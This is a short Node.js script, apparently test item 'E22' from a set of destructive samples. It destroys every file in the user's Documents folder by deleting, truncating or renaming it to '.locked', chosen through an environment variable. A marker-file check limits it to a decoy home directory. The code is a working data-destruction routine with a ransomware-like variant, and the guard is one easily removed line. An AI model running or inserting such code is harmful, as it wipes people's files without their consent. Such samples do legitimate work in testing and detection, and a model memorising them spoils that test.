// E22: destroys the user's documents, in one of three ways.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);

const folder = `${home}/Documents`;
const ways = {
  unlink: (file) => fs.unlinkSync(file),
  truncate: (file) => fs.truncateSync(file),
  rename: (file) => fs.renameSync(file, `${file}.locked`),
};
for (const name of fs.readdirSync(folder)) {
  ways[process.env.VARIANT](`${folder}/${name}`);
}
